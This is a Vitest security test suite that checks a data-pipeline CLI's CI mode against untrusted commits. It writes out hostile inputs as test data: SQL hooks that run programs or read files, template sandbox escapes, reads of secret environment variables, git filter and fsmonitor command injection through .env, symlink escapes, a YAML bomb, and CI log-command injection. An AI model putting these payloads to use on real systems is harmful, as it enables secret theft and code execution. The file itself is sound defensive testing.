import { existsSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tsdt } from '../support/cli.ts';
import { Repository } from './repository.ts';

const base: Readonly<Record<string, string>> = {
  'project.yml': `
name: shop
ci:
  env: [ALLOWED_REGION]
  rules: {contracts: error}
`,
  'seeds/raw_orders.csv': 'id,amount\n1,10\n2,20\n',
  'models/orders.sql': "select id, amount from {{ ref('raw_orders') }}\n",
  'models/orders.yml': `
models:
  - name: orders
    config: {contract: {enforced: true}}
    columns: [{name: id, data_type: integer}, {name: amount, data_type: integer}]
`,
};

let repository: Repository;
let outside: string;
beforeAll(() => {
  repository = new Repository();
  repository.write(base);
  repository.commit('the base');
  outside = mkdtempSync(join(tmpdir(), 'tsdt-outside-'));
  writeFileSync(join(outside, 'secret.sql'), "select 'the secret of the machine' as secret\n");
});
afterAll(() => {
  repository.remove();
  rmSync(outside, { recursive: true, force: true });
});

const env = { ALLOWED_REGION: 'north', DEPLOY_TOKEN: 'token-of-the-machine', DBT_ENV_SECRET_KEY: 'key-of-the-machine' };

async function attack(
  files: Readonly<Record<string, string | null>>,
  prepare: () => void = () => {},
  more: Readonly<Record<string, string>> = {},
): Promise<{ code: number; said: string }> {
  repository.git('checkout', '--quiet', '--force', '-B', 'attack', 'main');
  repository.git('clean', '--quiet', '--force', '-d', '-x');
  repository.write(files);
  prepare();
  repository.git('add', '--all', '--force');
  repository.git('commit', '--quiet', '--allow-empty', '--message', 'an attack');
  const { code, stdout, stderr } = await tsdt(repository.root, ['ci', '--base', 'main', '--untrusted'], {
    env: { ...env, ...more },
  });
  const report = ['summary.md', 'report.json', 'junit.xml', 'checks.sarif'].map((name) =>
    existsSync(join(repository.root, 'target/ci', name)) ? repository.read(`target/ci/${name}`) : '',
  );
  const said = [stdout, stderr, ...report].join('\n');
  for (const secret of ['token-of-the-machine', 'key-of-the-machine', 'the secret of the machine'])
    expect(said).not.toContain(secret);
  return { code, said };
}

describe('an untrusted change', () => {
  it('is checked on the embedded Postgres when it does nothing wrong', async () => {
    const { code, said } = await attack({
      'models/sum.sql':
        "select sum(amount) as total, '{{ env_var('ALLOWED_REGION') }}' as region from {{ ref('orders') }}\n",
    });
    expect(code, said).toBe(0);
    expect(said).toContain('The check passed');
  });

  it.each(['DEPLOY_TOKEN', 'DBT_ENV_SECRET_KEY'])('sees no %s', async (name) => {
    const { code, said } = await attack({ 'models/thief.sql': `select '{{ env_var('${name}') }}' as token\n` });
    expect(code).toBe(2);
    expect(said).toContain(name);
  });

  it('cannot name another database', async () => {
    const { code, said } = await attack({
      'profiles.yml':
        'pglite: {target: dev, outputs: {dev: {type: postgres, host: 127.0.0.1, port: 5432, user: x, password: x, dbname: x, schema: x}}}\n',
      'project.yml': `${base['project.yml']}profile: pglite\n`,
    });
    // its profiles are not read at all
    expect(code, said).toBe(0);
    expect(said).not.toContain('127.0.0.1');
  });

  it('keeps the rules of the base', async () => {
    const { code, said } = await attack({
      'project.yml': 'name: shop\nci: {rules: {contracts: "off"}}\n',
      'models/orders.sql': "select id from {{ ref('raw_orders') }}\n",
      'models/orders.yml':
        'models:\n  - name: orders\n    config: {contract: {enforced: true}}\n    columns: [{name: id, data_type: integer}]\n',
    });
    expect(code).toBe(1);
    expect(said).toContain('the contract of `orders` is broken: column `amount` was removed');
  });

  it('takes packages from nowhere that the base does not name', async () => {
    const { code, said } = await attack({
      'packages.yml': 'packages:\n  - git: https://example.invalid/evil.git\n    revision: main\n',
    });
    expect(code).toBe(2);
    expect(said).toContain('which the base does not name');
    expect(existsSync(join(repository.root, 'dbt_packages'))).toBe(false);
  });

  it('reads and writes only inside of the checkout', async () => {
    const paths = await attack({
      'project.yml': `${base['project.yml']}model-paths: ["models", "${outside}"]\ntarget-path: ${outside}/target\n`,
    });
    expect(paths.code).toBe(2);
    expect(paths.said).toContain('`model-paths` leads to');
    expect(paths.said).toContain('`target-path` leads to');
    expect(existsSync(join(outside, 'target'))).toBe(false);
    const link = await attack({}, () =>
      symlinkSync(join(outside, 'secret.sql'), join(repository.root, 'models/linked.sql')),
    );
    expect(link.code).toBe(2);
    expect(link.said).toContain('`models/linked.sql` is a link that leads outside of the checkout');
  });

  it('writes no log through a link that came with it', async () => {
    const { code } = await attack({}, () => symlinkSync(outside, join(repository.root, 'logs')));
    expect(code).toBe(2);
    expect(existsSync(join(outside, 'tsdt.log'))).toBe(false);
    expect(existsSync(join(outside, 'dbt.log'))).toBe(false);
  });

  it.each([
    ['run a program', "copy (select 1) to program 'touch OUTSIDE/touched'"],
    ['write a file', "copy (select 1) to 'OUTSIDE/touched'"],
    ['read a file', "create table stolen as select pg_read_file('OUTSIDE/secret.sql') as text"],
    ['read a folder', "create table stolen as select pg_ls_dir('OUTSIDE') as name"],
  ])('has hooks that cannot %s', async (_, sql) => {
    const { code, said } = await attack({
      'project.yml': `${base['project.yml']}on-run-start: ["${sql.replaceAll('OUTSIDE', outside)}"]\n`,
      'models/sum.sql': "select sum(amount) as total from {{ ref('orders') }}\n",
    });
    // a program is no error in WebAssembly: there are none to run
    expect(code, said).toBe(sql.includes('program') ? 0 : 1);
    expect(existsSync(join(outside, 'touched'))).toBe(false);
  });

  it('tells nobody: notifications and histories of runs are off', async () => {
    const { code, said } = await attack({
      'project.yml': `${base['project.yml']}notifications: [{command: "touch ${outside}/told", when: always}]\n`,
      'models/sum.sql': "select sum(amount) as total from {{ ref('orders') }}\n",
    });
    expect([0, 2], said).toContain(code);
    expect(existsSync(join(outside, 'told'))).toBe(false);
  });

  it('does not take a base that came with it', async () => {
    const commit = repository.git('rev-parse', 'main').trim();
    const { code, said } = await attack({
      [`target/ci/base/${commit}/.complete`]: commit,
      [`target/ci/base/${commit}/project.yml`]: 'name: shop\nci: {rules: {contracts: "off"}}\n',
      'models/orders.sql': "select id from {{ ref('raw_orders') }}\n",
      'models/orders.yml':
        'models:\n  - name: orders\n    config: {contract: {enforced: true}}\n    columns: [{name: id, data_type: integer}]\n',
    });
    expect(code).toBe(1);
    expect(said).toContain('the contract of `orders` is broken');
  });

  it('gives git no settings by a .env, and no base without files by attributes', async () => {
    const { code, said } = await attack({
      // each of these makes git run a program or leave files out, and the others lead what is written elsewhere
      '.env': [
        'GIT_CONFIG_COUNT=3',
        'GIT_CONFIG_KEY_0=core.attributesFile',
        `GIT_CONFIG_VALUE_0=${join(repository.root, 'attributes')}`,
        'GIT_CONFIG_KEY_1=filter.evil.smudge',
        `GIT_CONFIG_VALUE_1="touch ${outside}/filtered; cat"`,
        'GIT_CONFIG_KEY_2=core.fsmonitor',
        `GIT_CONFIG_VALUE_2="touch ${outside}/watched"`,
        `GIT_EXEC_PATH=${join(repository.root, 'programs')}`,
        `DBT_TARGET_PATH=${outside}/target`,
        `DBT_LOG_PATH=${outside}/logs`,
        `DBT_PROFILES_DIR=${outside}`,
        'DBT_STATE=kept',
      ].join('\n'),
      attributes: '* filter=evil\n',
      '.gitattributes': '* export-ignore\n* filter=evil\n',
      'project.yml': 'name: shop\nci: {rules: {contracts: "off"}}\n',
      'models/orders.sql': "select id from {{ ref('raw_orders') }}\n",
      'models/orders.yml':
        'models:\n  - name: orders\n    config: {contract: {enforced: true}}\n    columns: [{name: id, data_type: integer}]\n',
    });
    expect(code, said).toBe(1);
    expect(said).toContain('the contract of `orders` is broken');
    for (const name of ['filtered', 'watched', 'target', 'logs'])
      expect(existsSync(join(outside, name)), name).toBe(false);
  });

  it.each([
    [
      'a package beside the checkout',
      { 'packages.yml': 'packages: [{local: ../../}]\n' },
      'which the base does not name',
    ],
    ['a project whose name is a path', { 'project.yml': 'name: ../../../evil\n' }, 'name'],
    [
      'YAML that grows without end',
      {
        'models/bomb.yml': `a: &a [x, x, x, x, x, x, x, x, x]\n${'bcdefghi'
          .split('')
          .map((name, n) => `${name}: &${name} [${`*${'abcdefgh'[n]}, `.repeat(9)}]`)
          .join('\n')}\nmodels: *i\n`,
      },
      '',
    ],
  ] as const)('is refused with %s', async (_, files, words) => {
    const { code, said } = await attack(files);
    expect(code, said).toBe(2);
    expect(said).toContain(words);
  });

  it('leads nowhere by links to folders, or links to links', async () => {
    const { code, said } = await attack({ 'docs/kept.md': 'x' }, () => {
      symlinkSync(outside, join(repository.root, 'docs/first'));
      symlinkSync('docs/first', join(repository.root, 'models/second'));
    });
    expect(code).toBe(2);
    expect(said).toContain('`docs/first` is a link that leads outside of the checkout');
    expect(said).toContain('`models/second` is a link that leads outside of the checkout');
  });

  it('reaches nothing of the machine by templates', async () => {
    const parsed = await attack({ 'models/thief.sql': "select '{{ modules.os.environ }}' as stolen\n" });
    expect(parsed.code, parsed.said).not.toBe(0);
    const ways = [
      "{{ open('/etc/hosts').read() }}",
      "{{ ''.__class__.__mro__[1].__subclasses__() }}",
      "{{ ref.constructor.constructor('return process')().env }}",
      '{{ self.__init__.__globals__ }}',
    ].map((template, n) => [`models/thief_${n}.sql`, `select $x$${template}$x$ as stolen\n`] as const);
    const { code, said } = await attack(Object.fromEntries(ways));
    expect(code, said).not.toBe(0);
    for (const [path] of ways) expect(said).toMatch(new RegExp(`${path}|${path.slice(7, -4)}: error`));
  });

  it('gives GitHub and Azure no commands, and the report no form', async () => {
    const github = { GITHUB_ACTIONS: 'true' };
    const commands = (said: string): string[] =>
      said.split('\n').filter((line) => /^\s*::(?!(error|warning) file=)|##(vso)?\[/.test(line));
    const odd = 'models/`` [click](https:evil.example) <img src=x> @team.sql';
    const names = await attack(
      { [odd]: 'select 1', 'models/lines\n::error::made up.sql': 'select 1' },
      () => {},
      github,
    );
    expect(names.code, names.said).not.toBe(0);
    expect(commands(names.said)).toEqual([]);
    const log = "{{ log('one\\n::add-mask::c\\n##vso[task.setvariable variable=a]b', info=true) }}";
    const column = '"``[x](https://evil.example) <b> @team |"';
    const { code, said } = await attack(
      {
        'models/orders.sql': `${log} select id, amount, 2 as ${column} from {{ ref('raw_orders') }}\n`,
        'models/orders.yml': 'models:\n  - name: orders\n    description: "@team <img src=x>"\n',
      },
      () => {},
      github,
    );
    expect(code, said).toBe(1);
    expect(commands(said)).toEqual([]);
    const summary = repository.read('target/ci/summary.md');
    expect(summary).toContain('evil.example');
    expect(summary).not.toMatch(/``\[|<b>|<img/);
    const outsideCode = summary.replace(/```[\s\S]*?```/g, '').replace(/`[^`\n]*`/g, '');
    expect(outsideCode).not.toMatch(/@team|<img|<b>|(?<!\\)\]\(https/);
  });

  it('formats nothing and mentions nobody in the report', async () => {
    const { said } = await attack({
      'seeds/raw_orders.csv':
        'id,amount,note\n1,10,@everyone <img src=x> [click](https://evil.example)\n2,20,| a | b |\n',
      'models/orders.sql': "select id, amount, note from {{ ref('raw_orders') }}\n",
      'models/orders.yml': 'models:\n  - name: orders\n    description: x\n',
    });
    const summary = repository.read('target/ci/summary.md');
    expect(said).toContain('raw_orders');
    expect(summary).not.toMatch(/@everyone|<img|\]\(https/);
  });
});
